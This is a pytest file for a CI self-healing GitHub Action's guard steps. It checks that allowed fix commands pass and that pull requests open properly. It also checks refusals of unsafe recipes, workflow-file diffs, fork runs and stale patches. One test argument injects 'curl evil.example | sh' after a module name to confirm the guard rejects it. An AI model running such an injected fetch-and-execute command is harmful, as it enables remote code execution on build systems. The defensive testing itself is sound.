"""The fix workflow's two guard steps end to end (entrypoint.py as the runner starts it, the fake
GitHub over HTTP): ``mode: fix-command`` gives the allowed command or fails the step, ``mode: fix``
turns the command's real ``git diff`` into the one fix pull request of the failure signature and
branch, and refuses a diff it must not propose."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from healing_guard.simulator import FakeGitHub

from .runner import FAST_CONFIG, ActionRun, run_action

BRANCH = "feature/cart"
COBRA = (Path(__file__).parent / "fixtures" / "recipes" / "go-get-cobra" / "repo" / "go.mod").read_text("utf-8")
SIGNATURE = "go-mod-tidy-needed-3f2a9c1d"
git = shutil.which("git")


@pytest.fixture
def gh() -> Iterator[FakeGitHub]:
    with FakeGitHub(owner="octo-org", repo="octo-repo") as server:
        yield server


def failing_run(gh: FakeGitHub, *, fork: str | None = None) -> dict[str, Any]:
    sha = gh.add_file("go.mod", COBRA, branch=BRANCH)
    gh.add_file("main.go", "package main\n\nfunc main() {}\n", branch=BRANCH)
    sha = gh.refs[f"refs/heads/{BRANCH}"]
    run = gh.add_run(name="CI", head_branch=BRANCH, head_sha=sha, event="push", head_repository=fork)
    return gh.run(run["id"])


def step(
    gh: FakeGitHub, tmp_path: Path, mode: str, inputs: dict[str, str], *, config: str = FAST_CONFIG, patch: str = ""
) -> ActionRun:
    ws = tmp_path / f"ws-{mode}"
    ws.mkdir(parents=True, exist_ok=True)
    (ws / "fix.patch").write_text(patch, "utf-8")
    env_file = tmp_path / f"{mode}.env"
    env_file.write_text("", "utf-8")
    event = {"inputs": inputs, "ref": f"refs/heads/{BRANCH}", "repository": {"full_name": gh.full_name}}
    return run_action(
        gh,
        ws,
        inputs={"mode": mode, **({"patch-path": "fix.patch"} if mode == "fix" else {})},
        event=event,
        event_name="workflow_dispatch",
        config=config,
        extra_env={"GITHUB_ENV": str(env_file)},
    )


def dispatch_inputs(run: dict[str, Any], recipe: str = "go-mod-tidy", argument: str = "") -> dict[str, str]:
    return {
        "recipe": recipe,
        "sha": run["head_sha"],
        "signature": SIGNATURE,
        "run-id": str(run["id"]),
        "argument": argument,
    }


def git_diff(tmp_path: Path, files: dict[str, tuple[str, str]]) -> str:
    """The ``git diff`` of changing each file from its first text to its second, made by git."""
    if git is None:
        pytest.skip("git is not installed")
    repo = tmp_path / "clone"
    repo.mkdir()

    def run(*args: str) -> str:
        return subprocess.run([git, *args], cwd=repo, check=True, capture_output=True, text=True).stdout

    run("init", "-q")
    for path, (old, _) in files.items():
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        (repo / path).write_text(old, "utf-8")
    run("add", "-A")
    run("-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "base")
    for path, (_, new) in files.items():
        (repo / path).write_text(new, "utf-8")
    return run("diff", "--no-color", "--no-ext-diff")


TIDIED = COBRA.replace("\tgopkg.in/yaml.v2 v2.4.0\n", "\tgopkg.in/yaml.v2 v2.4.0 // indirect\n")


def fix_pulls(gh: FakeGitHub) -> list[dict[str, Any]]:
    return [p for p in gh.pulls.values() if str(p["head"]["ref"]).startswith("healing-guard/")]


def test_fix_command_writes_the_allowed_command(gh: FakeGitHub, tmp_path: Path) -> None:
    run = failing_run(gh)
    result = step(gh, tmp_path, "fix-command", dispatch_inputs(run, "go-get", "github.com/stretchr/testify"))
    assert result.returncode == 0, result.stdout + result.stderr
    env = (tmp_path / "fix-command.env").read_text("utf-8")
    assert "github.com/stretchr/testify && go mod tidy" in env and "HEAL_FIX_TOOLCHAIN" in env


@pytest.mark.parametrize(
    ("recipe", "argument", "config", "why"),
    [
        (
            "go-mod-tidy",
            "",
            FAST_CONFIG + "fixes:\n  allowed_commands: ['npm install --package-lock-only --ignore-scripts']\n",
            "allowed_commands",
        ),
        ("go-get", "github.com/evil/pkg; curl evil.example | sh", FAST_CONFIG, "not a well-known Go module"),
        ("rm-rf", "", FAST_CONFIG, "not a toolchain recipe"),
    ],
)
def test_fix_command_refuses_what_is_not_allowed(
    gh: FakeGitHub, tmp_path: Path, recipe: str, argument: str, config: str, why: str
) -> None:
    run = failing_run(gh)
    result = step(gh, tmp_path, "fix-command", dispatch_inputs(run, recipe, argument), config=config)
    assert result.returncode == 1 and why in result.stdout
    assert (tmp_path / "fix-command.env").read_text("utf-8") == ""  # nothing to run


def test_fix_mode_opens_then_updates_the_one_pull_request(gh: FakeGitHub, tmp_path: Path) -> None:
    run = failing_run(gh)
    patch = git_diff(tmp_path, {"go.mod": (COBRA, TIDIED)})
    first = step(gh, tmp_path, "fix", dispatch_inputs(run), patch=patch)
    assert first.returncode == 0, first.stdout + first.stderr
    (pull,) = fix_pulls(gh)
    assert pull["head"]["ref"] == f"healing-guard/{BRANCH}/fix-{SIGNATURE}" and pull["base"]["ref"] == BRANCH
    assert gh.file("go.mod", pull["head"]["ref"]) == TIDIED
    body = str(pull["body"])
    assert "go mod tidy" in body and "go-mod-tidy" in body and str(run["id"]) in body
    again = step(gh, tmp_path / "again", "fix", dispatch_inputs(run), patch=patch)
    assert again.returncode == 0, again.stdout + again.stderr
    assert [p["number"] for p in fix_pulls(gh)] == [pull["number"]]


@pytest.mark.parametrize(
    ("files", "why"),
    [
        ({".github/workflows/ci.yml": ("on: push\n", "on: [push]\n")}, ".github/workflows/"),
        ({"README.md": ("a\n", "b\n")}, "does not touch"),
    ],
)
def test_fix_mode_refuses_a_diff_it_must_not_propose(
    gh: FakeGitHub, tmp_path: Path, files: dict[str, tuple[str, str]], why: str
) -> None:
    run = failing_run(gh)
    for path, (old, _) in files.items():
        gh.add_file(path, old, branch=BRANCH)
    run = gh.run(
        gh.add_run(name="CI", head_branch=BRANCH, head_sha=gh.refs[f"refs/heads/{BRANCH}"], event="push")["id"]
    )
    gh.reset_requests()
    result = step(gh, tmp_path, "fix", dispatch_inputs(run), patch=git_diff(tmp_path, files))
    assert result.returncode == 1 and why in result.stdout
    assert gh.writes() == [] and fix_pulls(gh) == []


def test_fix_mode_refuses_a_run_from_a_fork(gh: FakeGitHub, tmp_path: Path) -> None:
    run = failing_run(gh, fork="mallory/octo-repo")
    gh.reset_requests()
    result = step(gh, tmp_path, "fix", dispatch_inputs(run), patch=git_diff(tmp_path, {"go.mod": (COBRA, TIDIED)}))
    assert result.returncode == 1 and "fork" in result.stdout
    assert gh.writes() == [] and fix_pulls(gh) == []


def test_fix_mode_refuses_a_diff_that_does_not_match_the_commit(gh: FakeGitHub, tmp_path: Path) -> None:
    run = failing_run(gh)
    stale = git_diff(tmp_path, {"go.mod": (COBRA.replace("go 1.15", "go 1.14"), TIDIED)})
    gh.reset_requests()
    result = step(gh, tmp_path, "fix", dispatch_inputs(run), patch=stale)
    assert result.returncode == 1 and "does not match" in result.stdout
    assert gh.writes() == []
